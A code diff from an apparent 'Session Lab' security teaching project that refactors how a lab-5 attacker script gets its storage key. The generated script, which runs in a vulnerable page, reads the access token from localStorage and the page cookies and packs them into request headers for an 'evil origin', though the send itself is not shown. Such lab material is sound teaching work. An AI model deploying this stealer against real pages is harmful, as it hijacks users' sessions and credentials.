@@ -1,8 +1,7 @@
 import { API_PATHS } from '../../shared/api/paths.ts';
 import { SEEN_COOKIE_HEADER, STOLEN_BY_HEADER } from '../../shared/api/lab-attacks.ts';
+import { ACCESS_TOKEN_STORAGE_KEY } from '../../shared/storage-keys.ts';
 
-/** Where the token half keeps its access token (the renderer's `STORAGE_KEYS.access`). */
-const ACCESS_TOKEN_KEY = 'sessionlab:access_token';
 
 /**
  * The script the evil origin serves for lab 5. It runs inside the vulnerable page, so with that page's
@@ -13,7 +12,7 @@ const ACCESS_TOKEN_KEY = 'sessionlab:access_token';
 export function stealScript(evilOrigin: string): string {
   return `// Session Lab, lab 5: the attacker's script. It runs in the page that let it in, with that page's origin.
 (async () => {
-  const token = localStorage.getItem(${JSON.stringify(ACCESS_TOKEN_KEY)});
+  const token = localStorage.getItem(${JSON.stringify(ACCESS_TOKEN_STORAGE_KEY)});
   const seen = document.cookie;
   const headers = { ${JSON.stringify(STOLEN_BY_HEADER)}: 'evil-script', ${JSON.stringify(SEEN_COOKIE_HEADER)}: seen || '(empty)' };
   if (token) headers.Authorization = 'Bearer ' + token;
